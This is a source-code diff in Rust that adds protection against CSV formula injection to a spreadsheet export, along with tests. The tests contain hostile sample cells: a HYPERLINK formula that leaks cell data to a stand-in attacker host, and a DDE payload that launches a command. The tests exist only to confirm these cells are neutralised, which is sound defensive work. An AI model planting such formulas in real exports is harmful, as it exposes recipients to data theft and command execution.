@@ -79,12 +79,16 @@ pub fn to_json(sheet: &Sheet, scenario: &Scenario, p: &Projection) -> Value {
     })
 }
 
-/// Quotes a CSV field when it holds a comma, a quote or a line break.
+/// A text cell: quoted when it holds a comma, a quote or a line break, and neutralised when a
+/// spreadsheet would read it as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return:
+/// OWASP's advice, a leading `'`). Numbers are never written through this (`csv_num`), so "-5" stays a
+/// number.
 pub fn csv_field(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s
     }
 }
 
@@ -195,6 +199,27 @@ mod tests {
     use super::*;
 
     #[test]
+    fn text_that_a_spreadsheet_would_run_is_neutralised() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Sources\")",
+                "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Sources\"\")\"",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            ("a=b", "a=b"),
+            ("Thu ngân sách", "Thu ngân sách"),
+        ];
+        for (text, cell) in cases {
+            assert_eq!(csv_field(text), cell, "{text:?}");
+        }
+        assert_eq!(csv_num(Some(-5.0)), "-5", "numbers stay numbers");
+    }
+
+    #[test]
     fn csv_fields_are_quoted_only_when_needed() {
         assert_eq!(csv_field("plain"), "plain");
         assert_eq!(csv_field("a,b"), "\"a,b\"");
@@ -209,6 +234,31 @@ mod tests {
         let scenario = Scenario::parse(text, &sheet).unwrap();
         let p = crate::engine::project(&sheet, &scenario);
         (sheet, scenario, p)
+    }
+
+    #[test]
+    fn neither_csv_holds_a_cell_a_spreadsheet_would_run() {
+        let (mut sheet, scenario, _) = published();
+        let t = sheet.targets.iter_mut().find(|t| t.id == "jobs").unwrap();
+        t.label.vi = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Nguồn\")".into();
+        t.label.en = "@SUM(A1:A9)".into();
+        let p = crate::engine::project(&sheet, &scenario);
+        let both = [
+            to_csv(&sheet, &p),
+            to_export_csv(&sheet, "+cmd|' /C calc'!A0", scenario.as_of, &p, crate::i18n::Locale::Vi),
+            to_export_csv(&sheet, "-x", scenario.as_of, &p, crate::i18n::Locale::En),
+        ];
+        for csv in &both {
+            for line in csv.trim_start_matches('\u{feff}').lines() {
+                // A cell starts the line or follows a comma; quoted cells start after the quote.
+                for cell in std::iter::once(line).chain(line.match_indices(',').map(|(i, _)| &line[i + 1..])) {
+                    let cell = cell.trim_start_matches('"');
+                    assert!(!cell.starts_with(['=', '+', '@']), "a live formula in {line}");
+                    assert!(!cell.starts_with('-') || cell[1..].starts_with(|c: char| c.is_ascii_digit()), "{line}");
+                }
+            }
+        }
+        assert!(both[1].contains("\"'=HYPERLINK("), "the text is kept, neutralised");
     }
 
     #[test]
